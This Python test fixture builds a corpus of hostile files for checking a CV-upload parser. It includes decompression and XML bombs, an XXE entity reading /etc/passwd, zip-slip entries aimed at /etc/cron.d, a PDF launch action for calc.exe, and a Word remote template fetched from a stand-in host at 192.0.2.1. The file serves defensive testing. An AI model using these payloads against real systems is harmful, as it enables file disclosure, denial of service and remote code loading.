"""Seventy files that no CV is, made by code: what each is called, its bytes, and the codes of what may be said of it.

``read`` stands for a file that is read all the same, because nothing in it does harm.
"""

import codecs
import struct
import zlib

from tests.cv.documents import (
    MACRO_KIND,
    docx,
    docx_parts,
    drawn,
    odt,
    odt_parts,
    page_objects,
    paragraphs,
    pdf,
    pdf_of,
    stream,
    zipped,
)

TEXT = "I worked in a cleanroom and know good manufacturing practice."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024
FLATE = b"/FlateDecode"
DTD = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)


def hostile_files():
    """Return every file by its name."""
    return plain_files() | pdf_bombs() | odd_pdfs() | archives() | markup_files() | word_files()


def plain_files():
    return {
        "empty.txt": (b"", "empty"),
        "blank.txt": (b" " * 5_000_000, "bare"),
        "lines.txt": (b"\n \r\n\t" * 1_000_000, "bare"),
        "token.txt": (b"a" * 1_000_000, "read"),
        "large.txt": (b"a " * 2_500_001, "large"),
        "zeros.txt": (b"cleanroom\x00\x00", "letters"),
        "wide-odd.txt": (codecs.BOM_UTF16_LE + b"a\x00b", "letters"),
        "wide-half.txt": (codecs.BOM_UTF16_BE + b"\xd8\x00" * 50, "letters"),
        "stuffed.txt": (b"cleanroom " * 40_000, "read"),
        "marks.txt": (("a" + "\u0301" * 1_000 + "\u202e\u200d ").encode() * 20, "read"),
        "page.txt": (b"<html><script>alert(1)</script>", "mismatch"),
        "program.exe": (b"MZ\x90\x00" * 100, "unknown"),
        "nameless": (b"text", "unknown"),
        "rich.txt": (b"{\\rtf1 cleanroom}", "mismatch"),
        "pdf.txt": (pdf(TEXT), "mismatch"),
        "picture.pdf": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "mismatch"),
    }


def pdf_bombs():
    many = b"[" + b"3 0 R " * 10_000 + b"]"
    wide = page_objects(stream(b"BT (a) Tj ET"), kids=many, count=10_000)
    lying = page_objects(stream(b"BT (a) Tj ET"), kids=many, count=1)
    squeezed = zlib.compress(b"BT " + b" " * 100_000_000 + b"ET", 9)
    tokens = zlib.compress(b"BT /F 1 Tf " + b"(a) Tj " * 2_000_000 + b"ET", 9)
    calls = page_objects(stream(b"/X Do"))
    calls[2] = calls[2].replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>"
    return {
        "flate.pdf": (pdf_of(page_objects(stream(squeezed, filters=FLATE))), "damaged swollen slow pictures"),
        "double.pdf": (
            pdf_of(page_objects(stream(zlib.compress(squeezed, 9), filters=b"[/FlateDecode /FlateDecode]"))),
            "damaged swollen slow pictures",
        ),
        "pages.pdf": (pdf_of(wide), "pages slow"),
        "lying-pages.pdf": (pdf_of(lying), "read slow pages"),
        "tokens.pdf": (pdf_of(page_objects(stream(tokens, filters=FLATE))), "slow swollen read damaged"),
        "calls.pdf": (pdf_of([*calls, stream(b"/X Do", more=form)]), "pictures damaged swollen slow"),
        "nested.pdf": (pdf_of(page_objects(stream(b"[" * 500_000))), "pictures damaged swollen slow"),
        "nested-object.pdf": (pdf_of([*page_objects(stream(drawn(TEXT))), b"<< /A " * 200_000]), "read damaged slow"),
        "chain.pdf": (
            pdf_of(page_objects(stream(b"x", filters=b"[" + FLATE * 20_000 + b"]"))),
            "damaged pictures slow swollen",
        ),
    }


def odd_pdfs():
    good = pdf(TEXT)
    loop = page_objects(stream(drawn(TEXT)), kids=b"[2 0 R]")
    parent = good.replace(b"/Type /Page /Parent 2 0 R", b"/Type /Page /Parent 3 0 R")
    end = good.rindex(b"startxref")
    circle = good[:end].replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % good.index(b"xref\n"))
    encrypted = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (%b) /U (%b) /P -4 >> /ID [(a) (a)]" % (
        b"o" * 32,
        b"u" * 32,
    )
    scan = page_objects(stream(b"q 100 0 0 100 0 0 cm /I Do Q"))
    launch = b"/OpenAction << /S /Launch /F (calc.exe) >> /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >>"
    attached = b"/Names << /EmbeddedFiles << /Names [(a.docm) << /F (a.docm) /EF << /F 6 0 R >> >>] >> >>"
    return {
        "cut.pdf": (good[: len(good) // 2], "damaged"),
        "junk.pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 200, "damaged"),
        "head.pdf": (b"%PDF-", "damaged"),
        "kids-loop.pdf": (pdf_of(loop), "damaged pictures read slow"),
        "parent-loop.pdf": (parent, "read damaged slow"),
        "xref-loop.pdf": (circle + good[end:], "read damaged slow"),
        "xref-far.pdf": (good[:end] + b"startxref\n99999999999\n%%EOF", "read damaged"),
        "locked.pdf": (pdf_of(page_objects(stream(drawn(TEXT))), trailer=encrypted), "locked damaged"),
        "scan.pdf": (pdf_of(scan), "pictures"),
        "white.pdf": (pdf(TEXT, colour=b"1 g"), "read"),
        "launch.pdf": (pdf_of(page_objects(stream(drawn(TEXT)), more=launch)), "read"),
        "attached.pdf": (pdf_of([*page_objects(stream(drawn(TEXT)), more=attached), stream(OLE)]), "read"),
        "and-zip.pdf": (good + zipped({"a.txt": "a"}), "mismatch"),
        "and-page.pdf": (good.replace(b"%PDF-1.7\n", b"%PDF-1.7\n<html><script>1</script>\n"), "mismatch"),
        "page-first.pdf": (b"<html>" + good, "mismatch"),
    }


def archives():
    good = docx(TEXT)
    parts = docx_parts(paragraphs(TEXT))
    lying = bytearray(zipped(parts | {"word/big.xml": b"0" * 900_000}))
    place = lying.rindex(b"word/big.xml") - 46
    lying[place + 24 : place + 28] = struct.pack("<I", 10)  # the size that the list of parts tells
    locked = bytearray(good)
    locked[good.index(b"PK\x01\x02") + 8] |= 1
    return {
        "bomb.docx": (zipped(parts | {"word/big.xml": b"0" * 60_000_000}), "swollen"),
        "document-bomb.docx": (zipped(docx_parts(paragraphs("a" * 19_000_000))), "swollen"),
        "many.docx": (zipped(parts | {f"word/{number}.xml": "" for number in range(201)}), "swollen"),
        "thousands.odt": (zipped({"mimetype": "x"} | {f"{number}": "" for number in range(5_000)}), "swollen"),
        "lying.docx": (bytes(lying), "read damaged"),
        "twice.docx": (twice(parts), "damaged"),
        "out.docx": (zipped(parts | {"../../etc/cron.d/x": "x"}), "damaged"),
        "root.docx": (zipped(parts | {"/etc/x": "x"}), "damaged"),
        "cut.docx": (good[:-30], "damaged"),
        "locked.docx": (bytes(locked), "locked"),
        "any.docx": (zipped({"a.txt": TEXT}), "damaged mismatch"),
        "any.odt": (good, "mismatch"),
    }


def twice(parts):
    """Return an archive in which one name stands for two parts: the second is renamed in the bytes."""
    return zipped(parts | {"word/documenT.xml": "<a/>"}).replace(b"documenT", b"document")


def markup_files():
    return {
        "entity.docx": (zipped(docx_parts("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before=DTD)), "damaged"),
        "laughs.docx": (zipped(docx_parts("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", before=LAUGHS)), "damaged"),
        "laughs.odt": (zipped(odt_parts("<text:p>&j;</text:p>", before=LAUGHS)), "damaged"),
        "types.docx": (zipped(docx_parts(paragraphs(TEXT)) | {"[Content_Types].xml": DTD + "<Types/>"}), "damaged"),
        "deep.docx": (zipped(docx_parts("<a>" * 500 + "</a>" * 500)), "damaged"),
        "deeper.docx": (zipped(docx_parts("<a>" * 400_000 + "</a>" * 400_000)), "swollen"),
        "broken.docx": (zipped(docx_parts("<w:p>")), "damaged"),
        "code.odt": (zipped(odt_parts("", before='<?xml version="1.0" encoding="utf-7"?>')), "damaged"),
    }


def word_files():
    parts = docx_parts(paragraphs(TEXT))
    remote = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>'
    )
    return {
        "macro.docm": (zipped(parts | {"word/vbaProject.bin": OLE}), "macros"),
        "macro.docx": (zipped(parts | {"word/vbaProject.bin": OLE}), "macros"),
        "macro-kind.docx": (zipped(docx_parts(paragraphs(TEXT), kind=MACRO_KIND)), "macros"),
        "macro.odt": (odt(TEXT, **{"Basic/Standard/x.xml": "<x/>"}), "macros"),
        "old.doc": (OLE, "old"),
        "old.docx": (OLE, "old"),
        "template.docx": (docx(TEXT, **{"word/_rels/settings.xml.rels": remote}), "read"),
        "inside.docx": (docx(TEXT, **{"word/embeddings/a.bin": OLE}), "read"),
        "picture.docx": (zipped(docx_parts("") | {"word/media/a.png": b"\x89PNG"}), "pictures"),
        "bare.docx": (docx(""), "bare"),
        "locked.odt": (odt(TEXT, **{"META-INF/manifest.xml": "<m:encryption-data/>"}), "locked"),
    }
